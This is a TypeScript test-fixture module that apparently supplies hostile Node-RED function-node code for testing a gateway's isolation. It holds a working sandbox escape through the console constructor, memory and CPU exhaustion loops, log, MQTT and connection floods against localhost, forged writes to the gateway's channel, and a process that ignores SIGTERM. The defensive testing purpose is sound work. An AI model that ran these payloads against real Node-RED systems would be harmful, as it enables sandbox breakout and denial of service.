/**
 * Functions of flows that do harm. A function node is code execution: the first line of each leaves the sandbox of Node-RED and has
 * what the process has.
 */

/** `proc` is the process, and `load` gives a module of Node, as far as the fence lets it. */
export const ESCAPE =
  "const proc = console.constructor.constructor('return process')(); const load = (name) => proc.getBuiltinModule(name);";

/** Objects, until the heap is full. */
export const ALLOCATE =
  "const all = []; setInterval(() => { for (let i = 0; i < 20; i++) all.push(new Array(1e4).fill({}).map((_, n) => 'x' + n)); }, 1); return null;";
/** Memory outside the heap. */
export const BUFFERS = 'const all = []; setInterval(() => { try { all.push(Buffer.alloc(4e6, 1)); } catch {} }, 5); return null;';
export const LOOP = 'setTimeout(() => { for (;;); }, 200); return null;';
export const LINES =
  "setInterval(() => { for (let i = 0; i < 2000; i++) { node.warn('flood ' + i); console.log('flood'); } }, 5); return null;";

/** Runs only once, also after a crash of the process. */
export const once = (func: string): string =>
  `if (context.get('once', 'file')) return null; context.set('once', 1, 'file'); ${func}`;

/** 100,000 MQTT messages a second over one connection with a log-in, as far as the broker takes them; it comes back when it is thrown out. */
export function publish(port: number, user: string, password: string): string {
  return `${ESCAPE}
const text = (s) => Buffer.concat([Buffer.from([s.length >> 8, s.length & 255]), Buffer.from(s)]);
const packet = (type, body) => Buffer.concat([Buffer.from([type, ...(body.length < 128 ? [body.length] : [128 | (body.length & 127), body.length >> 7])]), body]);
const hello = packet(0x10, Buffer.concat([text('MQTT'), Buffer.from([4, 0xc2, 0, 60]), text('flood'), text('${user}'), text('${password}')]));
const thousand = Buffer.concat(Array.from({ length: 1000 }, (_, i) => packet(0x30, Buffer.concat([text('flood/one'), Buffer.from('{"value":' + i + '}')]))));
let socket;
const dial = () => {
  socket = load('net').connect(${port}, '127.0.0.1');
  socket.on('error', () => {});
  socket.once('data', () => node.warn('logged in'));
  socket.on('data', () => {});
  socket.on('close', () => setTimeout(dial, 100));
  socket.write(hello);
};
dial();
setInterval(() => { if (socket.writableLength < 1e6) socket.write(thousand); }, 10);
setInterval(() => { for (let i = 0; i < 9 && socket.writableLength < 1e6; i++) socket.write(thousand); }, 100);
return null;`;
}

/** So many connections, each opened again when it ends. It says how many it tried. */
export function sockets(ports: readonly number[], count = 10_000): string {
  return `${ESCAPE}
const net = load('net');
let tried = 0;
const open = (port) => {
  tried++;
  const socket = net.connect(port, '127.0.0.1');
  let over = false;
  const again = () => { if (!over) { over = true; setTimeout(open, 3000, port); } };
  socket.on('error', again);
  socket.on('close', again);
  socket.on('connect', () => socket.write('GET / HTTP/1.1\\r\\n'));
};
const ports = ${JSON.stringify(ports)};
let started = 0;
const timer = setInterval(() => {
  for (let i = 0; i < 500 && started < ${count}; i++) open(ports[started++ % ports.length]);
  if (started >= ${count}) clearInterval(timer);
}, 50);
const said = setInterval(() => { if (tried >= ${count}) { clearInterval(said); node.warn('opened ' + tried); } }, 100);
return null;`;
}

/** Writes on the channel to the gateway what it likes: see test/integration/node-red/hostile-channel.test.ts. */
export const forge = (lines: string): string => `${ESCAPE} const { writeSync } = load('fs');
const say = (text) => { for (let b = Buffer.from(text); b.length > 0; ) { try { b = b.subarray(writeSync(3, b)); } catch (e) { if (e.code !== 'EAGAIN') throw e; } } };
${lines} return null;`;

/** Does not end when it is asked to. */
export const STUBBORN = `${ESCAPE} proc.removeAllListeners('SIGTERM'); proc.on('SIGTERM', () => node.warn('no')); proc.exit = () => {}; proc.reallyExit = () => {}; node.warn('stubborn'); return null;`;
